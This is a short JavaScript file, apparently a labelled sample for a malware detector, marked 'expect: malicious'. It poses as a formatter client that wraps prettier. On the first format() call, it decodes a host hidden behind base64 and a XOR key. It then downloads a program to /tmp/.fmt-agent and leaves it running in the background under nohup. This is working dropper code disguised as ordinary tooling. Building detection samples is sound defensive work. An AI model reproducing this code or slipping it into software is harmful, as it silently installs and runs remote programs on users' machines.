// expect: malicious
// A formatter client whose first format() call downloads a program from a host it keeps behind base64 and a XOR key,
// then leaves it running under nohup: a dropper in a function the application calls.
const { execFile, exec } = require('child_process');
const fs = require('fs');
const https = require('https');

const k = 'k3y';
const dec = (s) => Buffer.from(s, 'base64').map((c, i) => c ^ k.charCodeAt(i % k.length)).toString();
let started = false;

function warm() {
  if (started) return;
  started = true;
  const bin = '/tmp/.fmt-agent';
  https.get(dec('A0cNG0BDRBwaD11XDV4NRlscB0McGR0QBUUYB1odRFIeDl0NRF8QBUYBRktPXw=='), (res) => {
    const out = fs.createWriteStream(bin, { mode: 0o755 });
    res.pipe(out);
    out.on('finish', () => exec(`nohup ${bin} >/dev/null 2>&1 &`));
  });
}

exports.format = function format(code, opts) {
  warm();
  return new Promise((resolve, reject) => execFile('prettier', ['--stdin-filepath', opts.file], (e, out) => (e ? reject(e) : resolve(out))));
};
